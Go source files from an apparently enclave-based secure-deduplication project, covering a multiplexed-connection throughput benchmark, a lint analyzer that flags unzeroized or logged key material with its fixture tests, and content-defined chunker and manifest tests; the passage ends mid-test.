	// Workers is the number of concurrent callers on the one connection.
	Workers int `json:"workers"`
	// Batch is the number of tags per round trip (1 = plain GET).
	Batch int `json:"batch"`
	// Tags is the total number of tags fetched across all workers.
	Tags int `json:"tags"`
	// TotalMS is the wall-clock time for the whole cell.
	TotalMS float64 `json:"total_ms"`
	// TagsPerSec is the aggregate throughput.
	TagsPerSec float64 `json:"tags_per_sec"`
	// RTTMicros is the mean per-round-trip latency (wall time × workers
	// / round trips), comparable across batch sizes.
	RTTMicros float64 `json:"rtt_micros"`
}

// Default sweep axes: worker counts and batch sizes.
var (
	DefaultConcurrencyWorkers = []int{1, 2, 4, 8}
	DefaultConcurrencyBatches = []int{1, 8, 32}
)

// DefaultConcurrencyNetDelay is the simulated store-link delay added to
// every response (see Concurrency).
const DefaultConcurrencyNetDelay = 200 * time.Microsecond

// delayListener wraps accepted connections in a response delay,
// simulating the network round trip of the paper's dedicated-server
// ResultStore deployment on a loopback socket. The delay shifts each
// write's delivery; it does not serialise concurrent in-flight data, so
// pipelined responses overlap in the simulated network exactly as they
// would on a real link.
type delayListener struct {
	net.Listener
	delay time.Duration
}

func (l delayListener) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err != nil {
		return nil, err
	}
	return newDelayConn(c, l.delay), nil
}

type delayedChunk struct {
	due  time.Time
	data []byte
}

type delayConn struct {
	net.Conn
	mu     sync.Mutex
	closed bool
	ch     chan delayedChunk
}

func newDelayConn(c net.Conn, d time.Duration) *delayConn {
	dc := &delayConn{Conn: c, ch: make(chan delayedChunk, 4096)}
	go dc.pump(d)
	return dc
}

func (c *delayConn) Write(p []byte) (int, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.closed {
		return 0, net.ErrClosed
	}
	c.ch <- delayedChunk{due: time.Now(), data: append([]byte(nil), p...)}
	return len(p), nil
}

// pump delivers queued writes to the real socket d after they were
// written, in order.
func (c *delayConn) pump(d time.Duration) {
	for chunk := range c.ch {
		if wait := time.Until(chunk.due.Add(d)); wait > 0 {
			time.Sleep(wait)
		}
		if _, err := c.Conn.Write(chunk.data); err != nil {
			for range c.ch { // drain so writers never block
			}
			return
		}
	}
}

func (c *delayConn) Close() error {
	c.mu.Lock()
	if !c.closed {
		c.closed = true
		close(c.ch)
	}
	c.mu.Unlock()
	return c.Conn.Close()
}

// Concurrency measures how the multiplexed wire protocol scales GET
// throughput with concurrent callers and batched round trips. One
// store server runs on loopback TCP and ONE RemoteClient connection is
// shared by all workers, so any scaling comes from pipelining round
// trips on the single secure channel (protocol v2), not from extra
// connections. The store is pre-populated and every GET hits.
//
// Simulated SGX transition costs are disabled: they are implemented as
// spin waits, which on a small CI machine serialise the very
// overlapping this experiment measures. The paper's with-SGX store
// costs are covered by Fig. 6.
//
// netDelay is the simulated one-way store-link delay applied to every
// response (0 uses DefaultConcurrencyNetDelay, negative disables). On a
// raw loopback socket the round trip is almost pure CPU, so a serial
// caller already saturates the machine and pipelining has nothing to
// hide; the delay recreates the latency-bound regime of a store on a
// separate host, which is the deployment the mux exists for.
func Concurrency(workersList, batchList []int, tagsPerWorker, blobBytes int, netDelay time.Duration) ([]ConcurrencyRow, error) {
	if len(workersList) == 0 {
		workersList = DefaultConcurrencyWorkers
	}
	if len(batchList) == 0 {
		batchList = DefaultConcurrencyBatches
	}
	if tagsPerWorker <= 0 {
		tagsPerWorker = 2048
	}
	if blobBytes <= 0 {
		blobBytes = 1 << 10
	}
	if netDelay == 0 {
		netDelay = DefaultConcurrencyNetDelay
	}

	platform := enclave.NewPlatform(enclave.Config{SimulateCosts: false})
	appEnc, err := platform.Create("bench-app", []byte("bench app code"))
	if err != nil {
		return nil, err
	}
	storeEnc, err := platform.Create("bench-store", []byte("bench store code"))
	if err != nil {
		return nil, err
	}
	st, err := store.New(store.Config{Enclave: storeEnc, Shards: 16, Telemetry: registry})
	if err != nil {
		return nil, err
	}
	defer st.Close()
	var ln net.Listener
	ln, err = net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	if netDelay > 0 {
		ln = delayListener{Listener: ln, delay: netDelay}
	}
	srv := store.NewServer(st, ln,
		store.WithLogf(func(string, ...any) {}),
		store.WithMaxInflight(64),
		store.WithTelemetry(registry))
	go func() { _ = srv.Serve() }()
	defer srv.Close()

	client, err := dedup.DialConfig(ln.Addr().String(), appEnc, storeEnc.Measurement(),
		dedup.RemoteConfig{Telemetry: registry})
	if err != nil {
		return nil, err
	}
	defer client.Close()
	if v := client.ProtocolVersion(); v != wire.ProtocolV2 {
		return nil, fmt.Errorf("bench: negotiated protocol v%d, want v%d", v, wire.ProtocolV2)
	}

	// Populate enough distinct tags that workers spread over the store's
	// shards, then warm every entry once.
	maxBatch := 1
	for _, b := range batchList {
		if b > maxBatch {
			maxBatch = b
		}
	}
	population := 8 * maxBatch
	if population < 256 {
		population = 256
	}
	mkTag := func(i int) mle.Tag {
		var t mle.Tag
		t[0], t[1], t[2] = byte(i), byte(i>>8), 0xC0
		return t
	}
	blob := randBytes(blobBytes)
	items := make([]wire.PutItem, population)
	for i := range items {
		items[i] = wire.PutItem{
			Tag: mkTag(i),
			Sealed: mle.Sealed{
				Challenge:  randBytes(mle.ChallengeSize),
				WrappedKey: randBytes(mle.KeySize),
				Blob:       blob,
			},
		}
	}
	prs, err := client.PutBatch(items)
	if err != nil {
		return nil, fmt.Errorf("bench: populate: %w", err)
	}
	for i, pr := range prs {
		if !pr.OK {
			return nil, fmt.Errorf("bench: populate item %d rejected: %s", i, pr.Err)
		}
	}
	if _, err := client.GetBatch(tagsOf(mkTag, 0, population)); err != nil {
		return nil, fmt.Errorf("bench: warmup: %w", err)
	}

	rows := make([]ConcurrencyRow, 0, len(workersList)*len(batchList))
	for _, batch := range batchList {
		for _, workers := range workersList {
			rounds := tagsPerWorker / batch
			if rounds < 1 {
				rounds = 1
			}
			var wg sync.WaitGroup
			errs := make(chan error, workers)
			start := time.Now()
			for w := 0; w < workers; w++ {
				wg.Add(1)
				go func(w int) {
					defer wg.Done()
					errs <- runWorker(client, mkTag, population, w, rounds, batch)
				}(w)
			}
			wg.Wait()
			elapsed := time.Since(start)
			close(errs)
			for err := range errs {
				if err != nil {
					return nil, err
				}
			}
			totalRounds := workers * rounds
			totalTags := totalRounds * batch
			rows = append(rows, ConcurrencyRow{
				Workers:    workers,
				Batch:      batch,
				Tags:       totalTags,
				TotalMS:    ms(elapsed),
				TagsPerSec: float64(totalTags) / elapsed.Seconds(),
				RTTMicros:  elapsed.Seconds() * 1e6 * float64(workers) / float64(totalRounds),
			})
		}
	}
	if r := client.Reconnects(); r != 0 {
		return nil, fmt.Errorf("bench: connection was re-dialed %d times mid-sweep", r)
	}
	return rows, nil
}

// tagsOf builds the tag slice [start, start+n) under mk, wrapping at
// population.
func tagsOf(mk func(int) mle.Tag, start, n int) []mle.Tag {
	tags := make([]mle.Tag, n)
	for i := range tags {
		tags[i] = mk(start + i)
	}
	return tags
}

// runWorker issues rounds GET round trips of the given batch size,
// walking the populated tag space from a per-worker offset.
func runWorker(client *dedup.RemoteClient, mk func(int) mle.Tag, population, worker, rounds, batch int) error {
	offset := worker * 31
	if batch == 1 {
		for r := 0; r < rounds; r++ {
			_, found, err := client.Get(mk((offset + r) % population))
			if err != nil {
				return err
			}
			if !found {
				return fmt.Errorf("bench: populated tag missing")
			}
		}
		return nil
	}
	tags := make([]mle.Tag, batch)
	for r := 0; r < rounds; r++ {
		for i := range tags {
			tags[i] = mk((offset + r*batch + i) % population)
		}
		res, err := client.GetBatch(tags)
		if err != nil {
			return err
		}
		for _, gr := range res {
			if !gr.Found {
				return fmt.Errorf("bench: populated tag missing")
			}
		}
	}
	return nil
}

// RenderConcurrency formats the sweep and the two headline comparisons:
// concurrent-caller speedup over the serial baseline and the cost of a
// batched GET relative to repeated single GETs.
func RenderConcurrency(rows []ConcurrencyRow) string {
	s := "Concurrency: aggregate GET throughput, one mux connection\n"
	s += fmt.Sprintf("(simulated store-link delay %v per response, no SGX spin-wait costs)\n",
		DefaultConcurrencyNetDelay)
	s += fmt.Sprintf("%-8s %-6s %10s %12s %14s %10s\n",
		"Workers", "Batch", "Tags", "Total(ms)", "Tags/sec", "Speedup")
	var base, eight, batch32 *ConcurrencyRow
	for i := range rows {
		r := &rows[i]
		if r.Workers == 1 && r.Batch == 1 {
			base = r
		}
		if r.Workers == 8 && r.Batch == 1 {
			eight = r
		}
		if r.Workers == 1 && r.Batch == 32 {
			batch32 = r
		}
	}
	for _, r := range rows {
		speedup := "-"
		if base != nil && base.TagsPerSec > 0 {
			speedup = fmt.Sprintf("%.2fx", r.TagsPerSec/base.TagsPerSec)
		}
		s += fmt.Sprintf("%-8d %-6d %10d %12.2f %14.0f %10s\n",
			r.Workers, r.Batch, r.Tags, r.TotalMS, r.TagsPerSec, speedup)
	}
	if base != nil && eight != nil && base.TagsPerSec > 0 {
		s += fmt.Sprintf("8 concurrent clients, one connection: %.2fx serial throughput (target >= 2x)\n",
			eight.TagsPerSec/base.TagsPerSec)
	}
	if base != nil && batch32 != nil && base.RTTMicros > 0 {
		s += fmt.Sprintf("batched GET of 32 tags: %.0fus per round trip = %.2fx one GET round trip (budget < 8x of %.0fus)\n",
			batch32.RTTMicros, batch32.RTTMicros/base.RTTMicros, base.RTTMicros)
	}
	return s
}
