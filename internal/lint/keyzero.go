package lint

import (
	"go/ast"
	"go/types"
	"strings"
)

// KeyZeroAnalyzer enforces the key-hygiene half of SPEED's security
// argument: derived key material must not outlive the operation that
// needed it, and must never reach a formatting or logging sink.
//
// Rule 1 (zeroize): a byte buffer assigned from a key-producing call
// (KeyGen, KeyRec, secondaryKey, ECDH, hkdf, deriveKey, GenerateKey)
// must be zeroized on every return path. The analyzer accepts the
// defer idiom —
//
//	key, err := kdf(...)
//	defer Zeroize(key)
//
// (any callee whose name contains "zeroize", deferred or direct, with
// the buffer as argument) — because defer covers every return path
// including panics. A buffer whose ownership leaves the function
// (returned, stored in a struct or composite literal, captured by a
// closure, sent on a channel) is the new owner's responsibility and is
// not reported.
//
// Rule 2 (sinks): an argument that names key material and has a byte-
// buffer type must never be passed to fmt/log formatting functions or
// Trace-style telemetry sinks; a hex-dumped key in an error string
// survives in logs far longer than the enclave's memory encryption
// protects it.
var KeyZeroAnalyzer = &Analyzer{
	Name: "keyzero",
	Doc:  "derived key buffers must be zeroized on all return paths and never logged",
	Run:  runKeyZero,
}

// keyProducers are the callee names whose byte-buffer results are key
// material.
var keyProducers = map[string]bool{
	"KeyGen": true, "KeyRec": true, "GenerateKey": true,
	"secondaryKey": true, "hkdf": true, "hkdfKey": true, "ECDH": true,
	"deriveKey": true, "DeriveKey": true,
}

// sinkMethods are formatting/telemetry method names that count as
// logging sinks regardless of receiver.
var sinkMethods = map[string]bool{
	"Trace": true, "Tracef": true,
	"Logf": true, "Printf": true, "Errorf": true, "Infof": true,
	"Debugf": true, "Warnf": true,
}

func runKeyZero(pass *Pass) {
	pkg := pass.Pkg
	forEachFunc(pkg, func(_ *ast.File, fd *ast.FuncDecl) {
		checkKeyZeroize(pass, fd)
		checkKeySinks(pass, fd)
	})
}

// trackedKey is one key buffer produced inside the function.
type trackedKey struct {
	ident *ast.Ident
	obj   types.Object
	from  string // producing callee name, for the diagnostic
}

// checkKeyZeroize applies rule 1 to one function.
func checkKeyZeroize(pass *Pass, fd *ast.FuncDecl) {
	pkg := pass.Pkg

	// Step 1: key buffers assigned from producing calls.
	var tracked []trackedKey
	ast.Inspect(fd.Body, func(n ast.Node) bool {
		assign, ok := n.(*ast.AssignStmt)
		if !ok || len(assign.Rhs) != 1 {
			return true
		}
		call, ok := ast.Unparen(assign.Rhs[0]).(*ast.CallExpr)
		if !ok {
			// key := producer(...)[:16] — a reslice of a producer's
			// result is reported outright: a later Zeroize(key) clears
			// only the truncated window, leaving the rest of the
			// derived block live in the unreachable backing array.
			if sl, ok := ast.Unparen(assign.Rhs[0]).(*ast.SliceExpr); ok {
				if call, ok := ast.Unparen(sl.X).(*ast.CallExpr); ok {
					if _, callee := calleeParts(call); keyProducers[callee] {
						pass.Reportf(sl.Pos(), "truncated slice of key material from %s: Zeroize on the short slice cannot clear the remaining derived bytes; derive into a full-size buffer and zeroize all of it", callee)
					}
				}
			}
			return true
		}
		_, callee := calleeParts(call)
		if !keyProducers[callee] {
			return true
		}
		for _, lhs := range assign.Lhs {
			id, ok := ast.Unparen(lhs).(*ast.Ident)
			if !ok || id.Name == "_" {
				continue
			}
			obj := pkg.Info.Defs[id]
			if obj == nil {
				obj = pkg.Info.Uses[id]
			}
			if obj == nil || !isByteBuffer(obj.Type()) {
				continue
			}
			// Wrapped keys, tags, public halves etc. are not secrets.
			if allowlistedName(id.Name) {
				continue
			}
			tracked = append(tracked, trackedKey{ident: id, obj: obj, from: callee})
		}
		return true
	})
	if len(tracked) == 0 {
		return
	}

	for _, tk := range tracked {
		if keyEscapes(pkg, fd, tk) {
			continue
		}
		if keyZeroized(pkg, fd, tk.obj) {
			continue
		}
		pass.Reportf(tk.ident.Pos(), "%s holds key material from %s but is not zeroized on all return paths; add `defer Zeroize(%s)` right after the assignment",
			tk.ident.Name, tk.from, zeroizeArgFor(tk))
	}
}

// allowlistedName reports whether a name fragment marks the buffer as
// non-secret (wrapped keys are ciphertext, public keys and tags are
// not secrets).
func allowlistedName(name string) bool {
	l := strings.ToLower(name)
	for _, a := range secretAllow {
		if strings.Contains(l, a) {
			return true
		}
	}
	return false
}

// zeroizeArgFor renders the suggested Zeroize argument: arrays need a
// full slice.
func zeroizeArgFor(tk trackedKey) string {
	if t := tk.obj.Type(); t != nil {
		if _, isArray := t.Underlying().(*types.Array); isArray {
			return tk.ident.Name + "[:]"
		}
	}
	return tk.ident.Name
}

// keyEscapes reports whether the tracked buffer's ownership leaves the
// function: returned, aliased into another binding, stored in a
// composite literal, captured by a closure, or sent on a channel. Call
// arguments do not transfer ownership (the callee borrows), and element
// reads (k[i]) are not aliases.
func keyEscapes(pkg *Package, fd *ast.FuncDecl, tk trackedKey) bool {
	escaped := false
	ast.Inspect(fd.Body, func(n ast.Node) bool {
		if escaped {
			return false
		}
		switch n := n.(type) {
		case *ast.ReturnStmt:
			for _, r := range n.Results {
				if aliasesObj(pkg, r, tk.obj) {
					escaped = true
				}
			}
		case *ast.AssignStmt:
			for _, r := range n.Rhs {
				// The producing assignment itself defines the buffer;
				// any other assignment whose RHS aliases it re-homes it.
				if call, ok := ast.Unparen(r).(*ast.CallExpr); ok {
					if _, callee := calleeParts(call); keyProducers[callee] {
						continue
					}
				}
				if aliasesObj(pkg, r, tk.obj) {
					escaped = true
				}
			}
		case *ast.CompositeLit:
			for _, e := range n.Elts {
				if kv, ok := e.(*ast.KeyValueExpr); ok {
					e = kv.Value
				}
				if aliasesObj(pkg, e, tk.obj) {
					escaped = true
				}
			}
		case *ast.SendStmt:
			if aliasesObj(pkg, n.Value, tk.obj) {
				escaped = true
			}
		case *ast.FuncLit:
			// A closure capturing the buffer may stash it anywhere.
			ast.Inspect(n.Body, func(inner ast.Node) bool {
				if id, ok := inner.(*ast.Ident); ok && pkg.Info.Uses[id] == tk.obj {
					escaped = true
				}
				return !escaped
			})
			return false
		}
		return !escaped
	})
	return escaped
}

// aliasesObj reports whether e evaluates to the whole buffer obj (the
// identifier itself, a reslice, or its address) — the shapes that alias
// the backing array. An element read k[i] is not an alias.
func aliasesObj(pkg *Package, e ast.Expr, obj types.Object) bool {
	switch e := ast.Unparen(e).(type) {
	case *ast.Ident:
		return pkg.Info.Uses[e] == obj
	case *ast.SliceExpr:
		return aliasesObj(pkg, e.X, obj)
	case *ast.UnaryExpr:
		return aliasesObj(pkg, e.X, obj)
	case *ast.StarExpr:
		return aliasesObj(pkg, e.X, obj)
	}
	return false
}

// keyZeroized reports whether the function zeroizes the buffer: a call
// (deferred or direct, possibly inside a deferred closure) to a callee
// whose name contains "zeroize" with the buffer as an argument.
func keyZeroized(pkg *Package, fd *ast.FuncDecl, obj types.Object) bool {
	found := false
	ast.Inspect(fd.Body, func(n ast.Node) bool {
		call, ok := n.(*ast.CallExpr)
		if !ok {
			return true
		}
		_, callee := calleeParts(call)
		if !strings.Contains(strings.ToLower(callee), "zeroize") {
			return true
		}
		for _, a := range call.Args {
			if aliasesObj(pkg, a, obj) {
				found = true
			}
		}
		return !found
	})
	return found
}

// checkKeySinks applies rule 2 to one function: secret byte buffers
// must not reach formatting or telemetry sinks.
func checkKeySinks(pass *Pass, fd *ast.FuncDecl) {
	pkg := pass.Pkg
	ast.Inspect(fd.Body, func(n ast.Node) bool {
		call, ok := n.(*ast.CallExpr)
		if !ok {
			return true
		}
		if !isLoggingSink(pkg, call) {
			return true
		}
		for _, a := range call.Args {
			if name, ok := isSecretExpr(pkg, a); ok {
				_, callee := calleeParts(call)
				pass.Reportf(a.Pos(), "key material %s is passed to %s; keys must never reach logs or error strings", name, callee)
			}
		}
		return true
	})
}

// isLoggingSink recognises fmt and log package functions plus
// Trace/printf-style methods on any receiver.
func isLoggingSink(pkg *Package, call *ast.CallExpr) bool {
	sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr)
	if !ok {
		return false
	}
	if path := pkgPathOf(pkg, sel.X); path == "fmt" || path == "log" || path == "log/slog" {
		return true
	}
	if id, ok := ast.Unparen(sel.X).(*ast.Ident); ok && (id.Name == "fmt" || id.Name == "log") {
		// Syntactic fallback when type info is incomplete.
		return true
	}
	return sinkMethods[sel.Sel.Name]
}
