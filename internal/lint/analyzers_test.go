package lint_test

import (
	"os"
	"path"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"speed/internal/lint"
)

// wantRe extracts `// want `regex“ expectation comments from fixture
// sources.
var wantRe = regexp.MustCompile("//\\s*want `([^`]+)`")

type wantEntry struct {
	file string // absolute path
	line int
	re   *regexp.Regexp
	hit  bool
}

// loadFixture loads the named fixture packages (relative to
// testdata/src/<fixture>) under the synthetic "fix" import-path root.
func loadFixture(t *testing.T, fixture string, pkgrels []string) []*lint.Package {
	t.Helper()
	srcRoot, err := filepath.Abs(filepath.Join("testdata", "src"))
	if err != nil {
		t.Fatal(err)
	}
	loader, err := lint.NewLoader(".")
	if err != nil {
		t.Fatal(err)
	}
	loader.ExtraRoots = map[string]string{"fix": srcRoot}
	var pkgs []*lint.Package
	for _, rel := range pkgrels {
		dir := filepath.Join(srcRoot, fixture, filepath.FromSlash(rel))
		pkg, err := loader.LoadDir(dir, path.Join("fix", fixture, rel))
		if err != nil {
			t.Fatalf("load %s: %v", dir, err)
		}
		if pkg == nil {
			t.Fatalf("no package loaded from %s", dir)
		}
		pkgs = append(pkgs, pkg)
	}
	return pkgs
}

// collectWants indexes the want comments of every fixture file.
func collectWants(t *testing.T, pkgs []*lint.Package) []*wantEntry {
	t.Helper()
	var wants []*wantEntry
	for _, pkg := range pkgs {
		entries, err := os.ReadDir(pkg.Dir)
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range entries {
			if e.IsDir() || !strings.HasSuffix(e.Name(), ".go") {
				continue
			}
			file := filepath.Join(pkg.Dir, e.Name())
			data, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			for i, lineText := range strings.Split(string(data), "\n") {
				for _, m := range wantRe.FindAllStringSubmatch(lineText, -1) {
					wants = append(wants, &wantEntry{
						file: file,
						line: i + 1,
						re:   regexp.MustCompile(m[1]),
					})
				}
			}
		}
	}
	return wants
}

// runFixtureTest runs one analyzer over a fixture tree and checks its
// findings against the want comments: every finding must be expected,
// and every expectation must fire.
func runFixtureTest(t *testing.T, a *lint.Analyzer, fixture string, pkgrels []string) {
	t.Helper()
	pkgs := loadFixture(t, fixture, pkgrels)
	wants := collectWants(t, pkgs)
	diags := lint.Run(pkgs, nil, []*lint.Analyzer{a})
	for _, d := range diags {
		abs, err := filepath.Abs(d.File)
		if err != nil {
			t.Fatal(err)
		}
		matched := false
		for _, w := range wants {
			if !w.hit && w.file == abs && w.line == d.Line && w.re.MatchString(d.Message) {
				w.hit = true
				matched = true
				break
			}
		}
		if !matched {
			t.Errorf("unexpected finding: %s", d)
		}
	}
	for _, w := range wants {
		if !w.hit {
			t.Errorf("%s:%d: expected finding matching %q, got none", w.file, w.line, w.re)
		}
	}
}

func TestKeyZero(t *testing.T) {
	runFixtureTest(t, lint.KeyZeroAnalyzer, "keyzero", []string{"a"})
}

func TestAtomicMix(t *testing.T) {
	runFixtureTest(t, lint.AtomicMixAnalyzer, "atomicmix", []string{"a"})
}

func TestDeadline(t *testing.T) {
	runFixtureTest(t, lint.DeadlineAnalyzer, "deadline", []string{"a"})
}

func TestWireSym(t *testing.T) {
	runFixtureTest(t, lint.WireSymAnalyzer, "wiresym", []string{"wire"})
}

func TestEnclaveBoundary(t *testing.T) {
	runFixtureTest(t, lint.EnclaveBoundaryAnalyzer, "enclaveboundary",
		[]string{"tcb", "enclave", "outside", "wire"})
}

func TestSealFlow(t *testing.T) {
	runFixtureTest(t, lint.SealFlowAnalyzer, "sealflow", []string{"engine", "mle", "app"})
}

func TestFsyncOrder(t *testing.T) {
	runFixtureTest(t, lint.FsyncOrderAnalyzer, "fsyncorder", []string{"store"})
}

func TestGoroExit(t *testing.T) {
	runFixtureTest(t, lint.GoroExitAnalyzer, "goroexit", []string{"dedup"})
}

// TestFullSuiteOnFixtures runs every analyzer together over every
// fixture tree (each filtered to its own analyzer via want comments is
// not possible here, so this only asserts the suite does not panic and
// produces deterministic, sorted output).
func TestFullSuiteOnFixtures(t *testing.T) {
	pkgs := loadFixture(t, "keyzero", []string{"a"})
	first := lint.Run(pkgs, nil, nil)
	second := lint.Run(pkgs, nil, nil)
	if len(first) != len(second) {
		t.Fatalf("non-deterministic run: %d vs %d findings", len(first), len(second))
	}
	for i := range first {
		if first[i] != second[i] {
			t.Fatalf("non-deterministic finding order at %d: %v vs %v", i, first[i], second[i])
		}
	}
	for i := 1; i < len(first); i++ {
		a, b := first[i-1], first[i]
		if a.File > b.File || (a.File == b.File && a.Line > b.Line) {
			t.Fatalf("findings not sorted: %v before %v", a, b)
		}
	}
}

// TestIgnoreDirective verifies //speedlint:ignore suppresses a finding
// on the following line.
func TestIgnoreDirective(t *testing.T) {
	pkgs := loadFixture(t, "directive", []string{"a"})
	diags := lint.Run(pkgs, nil, []*lint.Analyzer{lint.AtomicMixAnalyzer})
	for _, d := range diags {
		t.Errorf("finding should have been suppressed by directive: %s", d)
	}
}

func TestTrustedConfig(t *testing.T) {
	cfg := lint.DefaultConfig()
	for _, tc := range []struct {
		path string
		want bool
	}{
		{"speed/internal/mle", true},
		{"speed/internal/enclave", true},
		{"speed/internal/enclave/sub", true},
		{"speed/internal/wire", false},
		{"speed/internal/mlefoo", false},
	} {
		pkg := &lint.Package{Path: tc.path}
		if got := cfg.Trusted(pkg); got != tc.want {
			t.Errorf("Trusted(%s) = %v, want %v", tc.path, got, tc.want)
		}
	}
}
