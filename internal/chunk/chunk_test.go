package chunk

import (
	"bytes"
	"crypto/sha256"
	"math/rand"
	"testing"

	"speed/internal/mle"
	"speed/internal/wire"
)

func testChunker(t testing.TB) *Chunker {
	t.Helper()
	c, err := NewChunker(Config{})
	if err != nil {
		t.Fatalf("NewChunker: %v", err)
	}
	return c
}

// deterministic test data: a fixed-seed PRNG so boundaries (and thus
// every assertion about them) are stable across runs and machines.
func testData(seed int64, n int) []byte {
	r := rand.New(rand.NewSource(seed))
	b := make([]byte, n)
	r.Read(b)
	return b
}

func TestSplitInvariants(t *testing.T) {
	c := testChunker(t)
	for _, n := range []int{0, 1, 100, DefaultMin, DefaultMin + 1, DefaultAvg, 100 << 10, 1 << 20} {
		data := testData(int64(n)+1, n)
		chunks := c.Split(data)
		var cat []byte
		for i, ch := range chunks {
			cat = append(cat, ch...)
			if len(ch) > DefaultMax {
				t.Fatalf("n=%d: chunk %d is %d bytes, above Max %d", n, i, len(ch), DefaultMax)
			}
			if i < len(chunks)-1 && len(ch) < DefaultMin {
				t.Fatalf("n=%d: non-final chunk %d is %d bytes, below Min %d", n, i, len(ch), DefaultMin)
			}
		}
		if !bytes.Equal(cat, data) {
			t.Fatalf("n=%d: concatenated chunks differ from input", n)
		}
	}
}

// TestSplitDeterministic pins that the same config yields the same
// boundaries across chunker instances — the convergence prerequisite.
func TestSplitDeterministic(t *testing.T) {
	a := testChunker(t)
	b := testChunker(t)
	data := testData(7, 256<<10)
	ca, cb := a.Split(data), b.Split(data)
	if len(ca) != len(cb) {
		t.Fatalf("chunk counts differ: %d vs %d", len(ca), len(cb))
	}
	for i := range ca {
		if !bytes.Equal(ca[i], cb[i]) {
			t.Fatalf("chunk %d differs between instances", i)
		}
	}
	if len(ca) < 2 {
		t.Fatalf("expected multiple chunks for 256KiB, got %d", len(ca))
	}
}

// TestSplitSeedChangesBoundaries: a different seed must yield a
// different gear table (different boundaries), else Seed is decorative.
func TestSplitSeedChangesBoundaries(t *testing.T) {
	a := testChunker(t)
	b, err := NewChunker(Config{Seed: 12345})
	if err != nil {
		t.Fatalf("NewChunker: %v", err)
	}
	data := testData(7, 256<<10)
	ca, cb := a.Split(data), b.Split(data)
	if len(ca) == len(cb) {
		same := true
		for i := range ca {
			if len(ca[i]) != len(cb[i]) {
				same = false
				break
			}
		}
		if same {
			t.Fatal("different seeds produced identical boundaries")
		}
	}
}

// TestSplitLocality is the content-defined property itself: editing a
// region of the input must leave chunks outside the edit's
// neighbourhood identical (by hash), which byte-offset chunking cannot
// do for insertions.
func TestSplitLocality(t *testing.T) {
	c := testChunker(t)
	base := testData(11, 512<<10)
	edited := append([]byte(nil), base[:100<<10]...)
	edited = append(edited, []byte("inserted bytes that shift every later offset")...)
	edited = append(edited, base[100<<10:]...)

	hashes := func(chunks [][]byte) map[[32]byte]bool {
		m := make(map[[32]byte]bool, len(chunks))
		for _, ch := range chunks {
			m[sha256.Sum256(ch)] = true
		}
		return m
	}
	hb := hashes(c.Split(base))
	shared := 0
	ce := c.Split(edited)
	for _, ch := range ce {
		if hb[sha256.Sum256(ch)] {
			shared++
		}
	}
	if shared < len(ce)/2 {
		t.Fatalf("after a point edit only %d/%d chunks are shared; content-defined boundaries are not holding", shared, len(ce))
	}
}

func TestNewChunkerRejectsBadGeometry(t *testing.T) {
	bad := []Config{
		{Min: 32, Avg: 512, Max: 1024},
		{Min: 512, Avg: 256, Max: 1024},
		{Min: 256, Avg: 2048, Max: 1024},
		{Min: 256, Avg: 100, Max: 1024},
		{Min: 1 << 20, Avg: 1 << 24, Max: 1 << 31},
	}
	for i, cfg := range bad {
		if _, err := NewChunker(cfg); err == nil {
			t.Errorf("config %d (%+v) accepted", i, cfg)
		}
	}
}

// TestStreamMatchesSplit feeds the same bytes through the incremental
// Stream in awkward write sizes and requires byte-identical chunks.
func TestStreamMatchesSplit(t *testing.T) {
	c := testChunker(t)
	data := testData(3, 300<<10)
	want := c.Split(data)

	for _, writeSize := range []int{1, 7, 1000, DefaultMin, DefaultMax, len(data)} {
		var got [][]byte
		s := c.NewStream(func(ch []byte) error {
			got = append(got, append([]byte(nil), ch...))
			return nil
		})
		for off := 0; off < len(data); off += writeSize {
			end := off + writeSize
			if end > len(data) {
				end = len(data)
			}
			n, err := s.Write(data[off:end])
			if err != nil || n != end-off {
				t.Fatalf("writeSize=%d: Write = (%d, %v)", writeSize, n, err)
			}
		}
		if err := s.Close(); err != nil {
			t.Fatalf("writeSize=%d: Close: %v", writeSize, err)
		}
		if len(got) != len(want) {
			t.Fatalf("writeSize=%d: %d chunks, Split made %d", writeSize, len(got), len(want))
		}
		for i := range got {
			if !bytes.Equal(got[i], want[i]) {
				t.Fatalf("writeSize=%d: chunk %d differs from Split", writeSize, i)
			}
		}
	}
}

func TestStreamCloseIdempotentAndWriteAfterClose(t *testing.T) {
	c := testChunker(t)
	s := c.NewStream(func([]byte) error { return nil })
	if _, err := s.Write([]byte("x")); err != nil {
		t.Fatalf("Write: %v", err)
	}
	if err := s.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	if err := s.Close(); err != nil {
		t.Fatalf("second Close: %v", err)
	}
	if _, err := s.Write([]byte("y")); err == nil {
		t.Fatal("Write after Close succeeded")
	}
}

func TestManifestRoundTrip(t *testing.T) {
	c := testChunker(t)
	data := testData(5, 200<<10)
	chunks := c.Split(data)
	m, err := BuildManifest(chunks)
	if err != nil {
		t.Fatalf("BuildManifest: %v", err)
	}
	if m.Total != uint64(len(data)) {
		t.Fatalf("Total = %d, want %d", m.Total, len(data))
	}
	if m.Digest != DigestOf(data) {
		t.Fatal("manifest digest disagrees with DigestOf over the assembled result")
	}
	enc := m.Encode()
	dec, err := DecodeManifest(enc)
	if err != nil {
		t.Fatalf("DecodeManifest: %v", err)
	}
	if dec.Total != m.Total || dec.Digest != m.Digest || len(dec.Refs) != len(m.Refs) {
		t.Fatal("decoded manifest differs")
	}
	for i := range dec.Refs {
		if dec.Refs[i] != m.Refs[i] {
			t.Fatalf("ref %d differs", i)
		}
	}
}

func TestManifestDecodeRejects(t *testing.T) {
	m, err := BuildManifest([][]byte{[]byte("hello"), []byte("world")})
	if err != nil {
		t.Fatalf("BuildManifest: %v", err)
	}
	enc := m.Encode()

	mutate := func(fn func(b []byte) []byte) error {
		b := append([]byte(nil), enc...)
		_, err := DecodeManifest(fn(b))
		return err
	}
	if err := mutate(func(b []byte) []byte { b[0] = 'X'; return b }); err == nil {
		t.Error("bad magic accepted")
	}
	if err := mutate(func(b []byte) []byte { b[4] = 99; return b }); err == nil {
		t.Error("unknown version accepted")
	}
	if err := mutate(func(b []byte) []byte { return b[:len(b)-1] }); err == nil {
		t.Error("truncated manifest accepted")
	}
	if err := mutate(func(b []byte) []byte { return append(b, 0) }); err == nil {
		t.Error("trailing bytes accepted")
	}
